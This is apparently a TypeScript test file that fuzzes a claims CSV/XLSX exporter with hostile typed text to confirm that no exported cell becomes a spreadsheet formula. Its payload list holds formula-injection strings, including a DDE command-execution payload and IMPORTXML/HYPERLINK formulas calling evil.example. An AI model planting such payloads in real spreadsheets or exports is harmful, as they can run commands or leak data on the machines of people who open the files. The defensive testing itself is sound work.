import { strFromU8, unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { calendarDate } from '#app/domain/calendar-date.ts';
import { claimsCsv } from '#app/features/exports/claims-csv.ts';
import { claimsXlsx } from '#app/features/exports/claims-xlsx.server.ts';
import { aClaimForExport } from '#test/fixtures/exports.ts';
import { aFee, aProgramme } from '#test/fixtures/factories.ts';
import { aTrial, type Trial } from '#test/fixtures/trial.ts';

/** Whatever somebody types, no cell of an export is one that a spreadsheet runs. */

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', ' =', '﻿=', '"=', ';=', '";=', '\'=', '\0='];
const acts = ['1+1', 'cmd|\'/C calc\'!A0', 'HYPERLINK("http://evil.example";"x")', 'SUM(A1:A9)', 'IMPORTXML("http://evil.example";"//a")', 'DDE("a";"b";"c")', '"";=1+1', '\n=1+1', '\r\n+1', ';@x'];

const typed = (trial: Trial) => `${trial.random() < 0.2 ? 'Veiledning' : ''}${trial.pick(starts) ?? ''}${trial.pick(acts) ?? ''}${trial.random() < 0.3 ? trial.pick(acts) ?? '' : ''}`;

/** Cells as a spreadsheet reads them: quotes may hold line ends and semicolons. */
function cellsOf(csv: string): string[] {
  return [...csv.slice(1).matchAll(/(?:^|;|\r\n|\n|\r)(?:"((?:[^"]|"")*)"|([^;\r\n"]*))/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
}

const runs = /^[\s﻿\0]*[=+\-@＝＋－＠]/;
/** An amount may be less than nothing. */
const amount = /^-\d[\d ]*(,\d+)?$/;

test('E24: no cell of CSV or XLSX is a formula', async () => {
  const trial = aTrial('E24', { reduced: 100, full: 10_000 });
  const perFile = 50;
  let cells = 0;
  for (let made = 0; made < trial.rounds; made += perFile) {
    const claims = Array.from({ length: perFile }, () => {
      const programme = aProgramme({ expenses: [aFee({ description: typed(trial), invoice: { number: typed(trial), supplier: typed(trial), issuedOn: calendarDate('2026-02-15') } })] });
      return aClaimForExport(programme, { programmeName: typed(trial), preparedBy: typed(trial), approvedBy: typed(trial), grantReference: typed(trial) });
    });
    const read = cellsOf(claimsCsv(claims, 'nb'));
    cells += read.length;
    expect(read.filter((cell) => runs.test(cell) && !amount.test(cell)), `seed ${trial.seed}`).toEqual([]);
    const parts = Object.entries(unzipSync(await claimsXlsx(claims, 'nb'))).filter(([name]) => name.startsWith('xl/worksheets/'));
    for (const [, bytes] of parts) {
      const sheet = strFromU8(bytes);
      // A formula is an element of its own there; text stands among the shared strings, or as text in its cell.
      expect(sheet).not.toMatch(/<f[ >/]|t="str"|<oddHeader/);
      cells += [...sheet.matchAll(/<c /g)].length;
    }
  }
  trial.tell(`${trial.rounds} claims of hostile texts, ${cells} cells of CSV and XLSX: 0 formulas`);
});
